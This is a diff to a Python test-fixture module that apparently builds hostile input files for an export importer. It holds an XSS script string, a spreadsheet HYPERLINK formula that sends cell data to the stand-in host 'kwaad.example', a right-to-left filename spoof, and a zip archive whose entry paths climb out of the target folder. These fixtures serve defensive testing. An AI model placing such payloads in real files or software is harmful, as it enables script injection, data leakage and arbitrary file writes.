@@ -11,6 +11,7 @@ import io
 import json
 import os
 import socket
+import tempfile
 import zipfile
 from collections.abc import Callable
 from pathlib import Path
@@ -25,6 +26,7 @@ QUESTION = "Waar loopt u tegenaan?"
 MARKUP = "</script><script>window.hacked=1</script><img src=x onerror=hacked()>"
 FORMULA = '=HYPERLINK("http://kwaad.example/"&A1,"klik")'
 BACKWARDS = "\u202egnp.exe\u202c gpj\u2066\u2069"
+ESCAPED = Path(tempfile.gettempdir()) / "ontsnapt.csv"  # where a path that climbs would end
 _MILLION = 1_000_000
 
 
@@ -120,7 +122,11 @@ def xlsx_whose_rows_are_all_the_same_row(folder: Path) -> None:
 def zip_with_paths_that_climb(folder: Path) -> None:
     _zip(
         folder / "export.zip",
-        {"../../../tmp/ontsnapt.csv": answers().encode(), "/etc/ontsnapt": b"x", "C:\\w.csv": b"x"},
+        {
+            f"../../..{ESCAPED.as_posix()}": answers().encode(),
+            "/etc/ontsnapt": b"x",
+            "C:\\w.csv": b"x",
+        },
     )
 
 
